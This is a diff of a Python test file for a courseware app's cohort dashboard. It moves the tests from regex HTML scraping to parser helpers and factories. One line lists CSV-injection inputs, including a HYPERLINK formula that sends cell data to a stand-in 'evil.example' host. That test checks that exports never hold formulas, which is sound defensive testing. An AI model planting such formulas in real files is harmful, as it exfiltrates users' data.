@@ -3,9 +3,7 @@
 from __future__ import annotations
 
 import csv
-import html as htmllib
 import io
-import re
 import shutil
 import zipfile
 from collections import Counter
@@ -39,10 +37,12 @@ from courseware.models import (
 )
 from courseware.models.base import utcnow
 from tests.conftest import EXAMPLE_COURSES, PASSWORD
+from tests.helpers import factories
+from tests.helpers.html import element_text, links, options, parse, selected_option, texts_of
 from tests.test_certificates import complete, pdf_text
 from tests.test_jobs import FlakyHandler, _free_port, queued_emails
 from tests.test_quizzes import RIGHT, answer
-from tests.test_worksheets import PAGE, SAVE, autosave
+from tests.test_worksheets import PAGE, SAVE
 
 COURSE = "example-course"
 FIRST_PAGE = "/courses/example-course/welcome/getting-started"
@@ -113,9 +113,9 @@ def apply_roster(client, url: str, deactivate: bool = False) -> str:
     response = client.submit(url, {"deactivate_missing": "y"} if deactivate else {})
     assert response.status_code == 302, text_of(response)[:3000]
     page = text_of(client.get(response.location))
-    found = re.search(r"Roster applied: [^<]*", page)
+    found = [message for message in texts_of(page, ".flash") if message.startswith("Roster applied: ")]
     assert found, page[:3000]
-    return htmllib.unescape(found.group(0))
+    return found[0]
 
 
 def import_roster(client, cohort_id: int, data: bytes | str, deactivate: bool = False) -> str:
@@ -129,38 +129,69 @@ def text_of(response) -> str:
 
 def form_errors(page: str) -> list[str]:
     """The error messages a form page shows, or the start of the page when there are none."""
-    found = re.findall(
-        r'<p class="field__error"[^>]*><span class="visually-hidden">Error: </span>(.*?)</p>', page, re.S
-    )
-    return [htmllib.unescape(message) for message in found] or [page[:2000]]
+    messages = []
+    for error in parse(page).select("p.field__error"):
+        for hidden in error.select(".visually-hidden"):  # "Error: ", for screen readers
+            hidden.extract()
+        messages.append(element_text(error))
+    return messages or [page[:2000]]
 
 
 def preview_counts(page: str) -> dict[str, int]:
-    return {label: int(n) for label, n in re.findall(r"<dt>([^<]+)</dt><dd>(\d+)</dd>", page)}
+    """The roster preview's counts: {"New": 1, "Updated": 0, ...}."""
+    return {element_text(dt): int(element_text(dt.find_next_sibling("dd"))) for dt in parse(page).select("dl.facts dt")}
 
 
 def problem_rows(page: str) -> list[tuple[int, str, str, str]]:
-    rows = re.findall(r"<tr><td>(\d+)</td><td>(.*?)</td><td>(.*?)</td><td>(.*?)</td></tr>", page)
-    return [(int(line), *(htmllib.unescape(cell) for cell in cells)) for line, *cells in rows]
+    """The rows of the preview's table of problems: (line, name, email, problem)."""
+    rows = []
+    for tr in parse(page).select(".problems-card tbody tr"):
+        line, name, email, problem = (element_text(td) for td in tr.select("td"))
+        rows.append((int(line), name, email, problem))
+    return rows
 
 
-ROW = re.compile(
-    r'<th scope="row">(?P<name>.*?)<br><span class="muted">(?P<email>.*?)</span></th>\s*'
-    r"<td>(?P<role>.*?)</td>\s*<td>(?P<school>.*?)</td>\s*"
-    r'<td><span class="status-dot status-dot--(?P<status>[\w-]+)"[^>]*></span>[^<]*</td>\s*'
-    r"<td>(?P<percent>\d+)%</td>\s*<td>(?P<hours>.*?)</td>\s*<td>(?P<activity>.*?)</td>\s*"
-    r"<td>(?P<scores>.*?)</td>\s*<td>(?P<certificate>.*?)</td>\s*<td>(?P<shared>.*?)</td>\s*</tr>",
-    re.S,
-)
+def status_of(cell) -> str:
+    """The status a status dot stands for: "completed" for class="status-dot status-dot--completed"."""
+    dot = cell.select_one(".status-dot")
+    assert dot is not None, cell
+    (status,) = [c.removeprefix("status-dot--") for c in dot["class"] if c.startswith("status-dot--")]
+    return status
 
 
-def member_rows(page: str) -> list[dict[str, str]]:
-    return [{k: htmllib.unescape(v) for k, v in m.groupdict().items()} for m in ROW.finditer(page)]
+def member_rows(page: str) -> list[dict]:
+    """The dashboard's table of members, one dict a row: the text of each cell, the status of its dot,
+    the scores shown, and the addresses the certificate and shared-entries cells link to."""
+    rows = []
+    for tr in parse(page).select("table.member-table tbody tr"):
+        header = tr.select_one('th[scope="row"]')
+        if header is None:  # "No member matches these filters."
+            continue
+        email = header.select_one(".muted")
+        role, school, status, percent, hours, activity, scores, certificate, shared = tr.select("td")
+        rows.append(
+            {
+                "name": element_text(header).removesuffix(element_text(email)).strip(),
+                "email": element_text(email),
+                "role": element_text(role),
+                "school": element_text(school),
+                "status": status_of(status),
+                "percent": element_text(percent).removesuffix("%"),
+                "hours": element_text(hours),
+                "activity": element_text(activity),
+                "scores": texts_of(scores, ".score"),
+                "certificate": element_text(certificate),
+                "certificate_links": links(certificate),
+                "shared": element_text(shared),
+                "shared_links": links(shared),
+            }
+        )
+    return rows
 
 
 def status_counts(page: str) -> dict[str, int]:
-    found = re.findall(r"status-dot--([\w-]+)\" aria-hidden=\"true\"></span>[^:<]+: <strong>(\d+)</strong>", page)
-    return {status: int(n) for status, n in found}
+    """The dashboard's count of members in each status."""
+    return {status_of(li): int(element_text(li.select_one("strong"))) for li in parse(page).select(".status-counts li")}
 
 
 def assign(client, cohort_id: int, due_on, course: str = COURSE, renewal_months: str = ""):
@@ -205,18 +236,20 @@ class Staff:
 
 @pytest.fixture
 def staff(app, world, make_user, sign_in) -> Staff:
+    """Set up directly (tests/helpers/factories.py); test_progress_made_through_the_pages_shows_on_the_dashboard
+    makes the same progress through the app's pages."""
     nia = make_user(name="Nia Notstarted", email="nia@district.org")
     ian = make_user(name="Ian Inprogress", email="ian@district.org")
     cal = make_user(name="Cal Completed", email="cal@district.org")
     add_member(world.cohort, nia, "Teacher", world.school)
     add_member(world.cohort, ian, "Counselor", world.other_school)
     add_member(world.cohort, cal, "Teacher", world.other_school)
+    an_hour_ago = utcnow() - timedelta(hours=1)
+    factories.enrolment(ian, pages=["welcome/getting-started", "practice/check"], at=an_hour_ago)
+    factories.quiz_attempt(ian, score=50, at=an_hour_ago)
+    factories.quiz_attempt(ian, score=75, at=an_hour_ago)
+    factories.completed(cal, pdf=None)  # the PDF is rendered when it is first downloaded
     clients = {user.email: signed_in(app, sign_in, user) for user in (nia, ian, cal)}
-    ian_client = clients[ian.email]
-    ian_client.get(FIRST_PAGE)
-    answer(ian_client, {**RIGHT, "q-sky": "green", "q-boiling": "false"})  # 50%
-    answer(ian_client, {**RIGHT, "q-sky": "green"})  # 75%
-    complete(clients[cal.email])
     return Staff(nia, ian, cal, clients)
 
 
@@ -226,12 +259,10 @@ def the_assignment(cohort: Cohort) -> Assignment:
 
 
 @pytest.fixture
-def assigned(world, leader_client) -> Assignment:
-    response = assign(leader_client, world.cohort.id, utcnow().date() + timedelta(days=30))
-    assert response.status_code == 302, text_of(response)[:2000]
-    assignment = the_assignment(world.cohort)
-    assert response.location == dashboard_url(world.cohort.id, assignment.id)
-    return assignment
+def assigned(world) -> Assignment:
+    """The example course assigned to the world's cohort, due in 30 days (assigning through the
+    cohort page is tested in test_assigning_a_course_and_changing_its_due_date)."""
+    return factories.assignment(world.cohort, COURSE, utcnow().date() + timedelta(days=30))
 
 
 # --- joining by link -------------------------------------------------------------------------------
@@ -311,9 +342,9 @@ def test_an_unknown_join_code_is_a_friendly_404(learner_client):
 def test_someone_without_an_account_signs_up_from_the_link_and_comes_back_to_it(world, client):
     code = world.cohort.join_code
     sign_in_page = client.get(client.get(f"/join/{code}").location)
-    link = re.search(r'href="(/sign-up\?next=[^"]+)"', text_of(sign_in_page))
-    assert link, "the sign-in page offers to create an account"
-    sign_up = htmllib.unescape(link.group(1))
+    found = links(sign_in_page.get_data(as_text=True), 'a[href^="/sign-up?next="]')
+    assert found, "the sign-in page offers to create an account"
+    sign_up = found[0]
     data = {"name": "Nell Newcomer", "email": "nell@district.org", "password": PASSWORD, "confirm": PASSWORD}
     response = client.submit(sign_up, data)
     assert response.status_code == 302 and response.location == f"/join/{code}"
@@ -357,7 +388,7 @@ def two_courses(make_app, tmp_path):
 
 
 def catalog_titles(page: str) -> list[str]:
-    return re.findall(r'<h2 class="course-card__title"><a href="[^"]+">([^<]+)</a></h2>', page)
+    return texts_of(page, "h2.course-card__title a")
 
 
 def test_assigning_a_course_and_changing_its_due_date(world, leader_client):
@@ -438,7 +469,7 @@ def test_a_past_due_date_shows_overdue_on_the_catalog_until_completed(world, mak
     page = text_of(client.get("/"))
     assert f"Assigned to you · due {due.strftime('%-d %B %Y')} (overdue)" in page
     assert "assigned--overdue" in page
-    complete(client)
+    factories.completed(member)
     page = text_of(client.get("/"))
     assert "Assigned to you" in page and "(overdue)" not in page
 
@@ -484,6 +515,30 @@ def test_the_dashboard_shows_every_status(world, staff, leader_client, assigned)
     assert status_counts(page) == {"not-started": 0, "in-progress": 0, "completed": 1, "overdue": 2}
 
 
+def test_progress_made_through_the_pages_shows_on_the_dashboard(app, world, leader_client, make_user, sign_in):
+    """The ``staff`` fixture's progress, made as learners make it: pages read, quizzes answered."""
+    people = {name: make_user(name=name, email=f"{name.split()[0].lower()}@district.org")
+              for name in ("Nia Notstarted", "Ian Inprogress", "Cal Completed")}  # fmt: skip
+    for person in people.values():
+        add_member(world.cohort, person, "Teacher", world.school)
+    ian = signed_in(app, sign_in, people["Ian Inprogress"])
+    ian.get(FIRST_PAGE)
+    answer(ian, {**RIGHT, "q-sky": "green", "q-boiling": "false"})  # 50%
+    answer(ian, {**RIGHT, "q-sky": "green"})  # 75%
+    complete(signed_in(app, sign_in, people["Cal Completed"]))
+    assignment = factories.assignment(world.cohort)
+    page = text_of(leader_client.get(dashboard_url(world.cohort.id, assignment.id)))
+    rows = {r["name"]: r for r in member_rows(page)}
+    assert {name: (r["status"], r["percent"], r["scores"]) for name, r in rows.items()} == {
+        "Cal Completed": ("completed", "100", ["100%"]),
+        "Ian Inprogress": ("in-progress", "40", ["75%"]),  # the first page, and the quiz's page
+        "Nia Notstarted": ("not-started", "0", []),
+    }
+    code = db.session.scalar(select(Certificate.code).where(Certificate.user_id == people["Cal Completed"].id))
+    assert rows["Cal Completed"]["certificate_links"] == [f"/verify/{code}"] and rows["Cal Completed"]["hours"] == "1"
+    assert status_counts(page) == {"not-started": 1, "in-progress": 1, "completed": 1, "overdue": 0}
+
+
 def test_nobody_is_overdue_on_the_due_date_itself(world, staff, leader_client):
     services.assign(world.cohort, COURSE, utcnow().date(), None)
     page = text_of(leader_client.get(dashboard_url(world.cohort.id, the_assignment(world.cohort).id)))
@@ -506,7 +561,7 @@ def move_completion(user: User, completed_at) -> None:
 def test_a_completion_counts_for_the_renewal_period_only(world, staff, leader_client, make_user, app, sign_in):
     dee = make_user(name="Dee Done", email="dee@district.org")
     add_member(world.cohort, dee, "Teacher", world.school)
-    complete(signed_in(app, sign_in, dee))
+    factories.completed(dee)
     services.assign(world.cohort, COURSE, utcnow().date() + timedelta(days=30), 12)
     url = dashboard_url(world.cohort.id, the_assignment(world.cohort).id)
     anniversary = year_before(utcnow())
@@ -535,11 +590,11 @@ def test_the_status_counts_cover_every_member_whatever_the_filter(world, staff, 
 
 def test_best_quiz_scores_and_the_certificate_link(world, staff, leader_client, assigned):
     rows = {r["name"]: r for r in member_rows(text_of(leader_client.get(dashboard_url(world.cohort.id, assigned.id))))}
-    assert re.findall(r"(\d+)%", rows["Ian Inprogress"]["scores"]) == ["75"]
-    assert re.findall(r"(\d+)%", rows["Cal Completed"]["scores"]) == ["100"]
-    assert "%" not in rows["Nia Notstarted"]["scores"]
+    assert rows["Ian Inprogress"]["scores"] == ["75%"]
+    assert rows["Cal Completed"]["scores"] == ["100%"]
+    assert rows["Nia Notstarted"]["scores"] == []
     code = db.session.scalar(select(Certificate.code).where(Certificate.user_id == staff.cal.id))
-    assert f'href="/verify/{code}"' in rows["Cal Completed"]["certificate"]
+    assert rows["Cal Completed"]["certificate_links"] == [f"/verify/{code}"]
     assert rows["Ian Inprogress"]["certificate"] == "—" and rows["Nia Notstarted"]["certificate"] == "—"
     assert rows["Cal Completed"]["hours"] == "1"
     verify = leader_client.get(f"/verify/{code}")
@@ -583,15 +638,10 @@ def test_sorting_and_filtering_the_dashboard(world, staff, leader_client, assign
 
 def test_the_filters_offer_the_cohort_roles_and_schools(world, staff, leader_client, assigned):
     page = text_of(leader_client.get(dashboard_url(world.cohort.id, assigned.id) + "?role=Teacher"))
-    role_select = page.split('id="role"', 1)[1].split("</select>", 1)[0]
-    school_select = page.split('id="school"', 1)[1].split("</select>", 1)[0]
-    assert re.findall(r"<option[^>]*>([^<]+)</option>", role_select) == ["All", "Counselor", "Teacher"]
-    assert "<option selected>Teacher</option>" in role_select
-    assert re.findall(r"<option[^>]*>([^<]+)</option>", school_select) == [
-        "All",
-        "Lincoln Elementary",
-        "Washington Middle",
-    ]
+    assert options(page, "select#role") == ["All", "Counselor", "Teacher"]
+    assert selected_option(page, "select#role") == "Teacher"
+    assert options(page, "select#school") == ["All", "Lincoln Elementary", "Washington Middle"]
+    assert selected_option(page, "select#school") is None
     assert "No member matches these filters." in text_of(
         leader_client.get(dashboard_url(world.cohort.id, assigned.id) + "?role=Principal")
     )
@@ -615,14 +665,9 @@ SHARED_TEXT = "Happy to show my leader this plan"
 
 @pytest.fixture
 def entries(world, staff):
-    """Nia keeps her plan private; Ian shares his."""
-    nia_client, ian_client = staff.clients[staff.nia.email], staff.clients[staff.ian.email]
-    assert autosave(nia_client, "first-try", PRIVATE_TEXT).status_code == 200
-    assert autosave(ian_client, "first-try", SHARED_TEXT).status_code == 200
-    assert ian_client.submit(SAVE + "/share", {"shared": "yes"}, page=PAGE).status_code == 302
-    private = db.session.scalar(select(WorksheetEntry).where(WorksheetEntry.user_id == staff.nia.id))
-    shared = db.session.scalar(select(WorksheetEntry).where(WorksheetEntry.user_id == staff.ian.id))
-    assert not private.shared and shared.shared
+    """Nia keeps her plan private; Ian shares his (saving and sharing are tested in test_worksheets)."""
+    private = factories.worksheet_answers(staff.nia, "my-plan", {"first-try": PRIVATE_TEXT})
+    shared = factories.worksheet_answers(staff.ian, "my-plan", {"first-try": SHARED_TEXT}, shared=True)
     return private.id, shared.id
 
 
@@ -633,8 +678,8 @@ def test_only_shared_entries_are_listed_and_readable(
     url = dashboard_url(world.cohort.id, assigned.id)
     page = text_of(leader_client.get(url))
     rows = {r["name"]: r for r in member_rows(page)}
-    assert f'href="/entries/{shared_id}"' in rows["Ian Inprogress"]["shared"]
-    assert "My plan" in rows["Ian Inprogress"]["shared"]
+    assert rows["Ian Inprogress"]["shared_links"] == [f"/entries/{shared_id}"]
+    assert rows["Ian Inprogress"]["shared"] == "My plan"
     assert rows["Nia Notstarted"]["shared"] == "—"
     assert f"/entries/{private_id}" not in page
 
@@ -737,11 +782,10 @@ def test_the_csv_export_follows_the_filters(world, staff, leader_client, assigne
     response = leader_client.get(dashboard_url(world.cohort.id, assigned.id) + ".csv?role=Teacher&sort=name&order=desc")
     _, *rows = read_csv(response.data)
     assert [r[0] for r in rows] == ["Nia Notstarted", "Cal Completed"]
-    export_link = re.search(
-        r'href="([^"]*\.csv[^"]*)"',
-        text_of(leader_client.get(dashboard_url(world.cohort.id, assigned.id) + "?role=Teacher")),
+    (export_link,) = links(
+        text_of(leader_client.get(dashboard_url(world.cohort.id, assigned.id) + "?role=Teacher")), 'a[href*=".csv"]'
     )
-    assert export_link and "role=Teacher" in htmllib.unescape(export_link.group(1))
+    assert "role=Teacher" in export_link
 
 
 DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@cmd", "\tTabbed name"]
@@ -772,7 +816,7 @@ def test_the_csv_export_never_holds_a_formula(world, leader_client, make_user):
 def test_the_zip_holds_one_pdf_per_completed_member(app, world, staff, leader_client, assigned, make_user, sign_in):
     zoe = make_user(name="Zoë Ünal", email="zoe@district.org")
     add_member(world.cohort, zoe, "Teacher", world.school)
-    complete(signed_in(app, sign_in, zoe))
+    factories.completed(zoe, pdf=None)  # the ZIP holds the PDF as rendered
 
     response = leader_client.get(dashboard_url(world.cohort.id, assigned.id) + "/certificates.zip")
     assert response.status_code == 200
@@ -840,8 +884,8 @@ def test_reminders_go_to_active_members_not_done_exactly_once(make_app, smtp_ser
             update(CohortMember).where(CohortMember.user_id == people["Dee Deactivated"].id).values(active=False)
         )
         db.session.commit()
-        signed_in(app, sign_in, people["Ian Inprogress"]).get(FIRST_PAGE)
-        complete(signed_in(app, sign_in, people["Cal Completed"]))
+        factories.enrolment(people["Ian Inprogress"], pages=["welcome/getting-started"])
+        factories.completed(people["Cal Completed"])
         assert jobs.work() == jobs.WorkReport(done=1)  # Cal's certificate PDF, before any mail is queued
         services.assign(world.cohort, COURSE, utcnow().date() + timedelta(days=7), None)
         assignment = the_assignment(world.cohort)
@@ -886,7 +930,7 @@ def test_reminders_go_to_active_members_not_done_exactly_once(make_app, smtp_ser
 def test_no_reminder_is_needed_when_everyone_is_done(app, world, leader_client, make_user, sign_in):
     cal = make_user(name="Cal Completed", email="cal@district.org")
     add_member(world.cohort, cal)
-    complete(signed_in(app, sign_in, cal))
+    factories.completed(cal)
     services.assign(world.cohort, COURSE, utcnow().date() + timedelta(days=7), None)
     url = dashboard_url(world.cohort.id, the_assignment(world.cohort).id)
     response = leader_client.submit(url + "/remind", page=url)
